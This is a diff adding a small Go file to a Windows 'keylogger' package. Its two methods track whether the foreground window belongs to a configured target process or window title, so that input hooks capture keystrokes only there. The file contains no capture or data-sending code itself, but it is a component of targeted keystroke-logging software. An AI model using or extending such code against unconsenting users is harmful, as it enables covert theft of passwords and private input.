@@ -0,0 +1,36 @@
+package keylogger
+
+import (
+	"sync/atomic"
+
+	"golang.org/x/sys/windows"
+)
+
+/*
+	Called on the hook thread when hwnd comes to the foreground: records
+	whether it is a window of the Target, which the hooks look up for every
+	input. Querying the window here, once per switch, keeps the hooks from
+	queueing input the worker would only drop.
+*/
+func (l *Logger) targetFocus(hwnd HWND) {
+	if !l.Target.set() {
+		return
+	}
+	var pid uint32
+	if hwnd != 0 {
+		windows.GetWindowThreadProcessId(windows.HWND(hwnd), &pid)
+	}
+	var off int32
+	if hwnd == 0 || !l.Target.Matches(processName(pid), GetWindowText(hwnd)) {
+		off = 1
+	}
+	atomic.StoreInt32(&l.offTarget, off)
+}
+
+/*
+	Reports whether the foreground window is one of the Target, or there
+	is no Target.
+*/
+func (l *Logger) onTarget() bool {
+	return atomic.LoadInt32(&l.offTarget) == 0
+}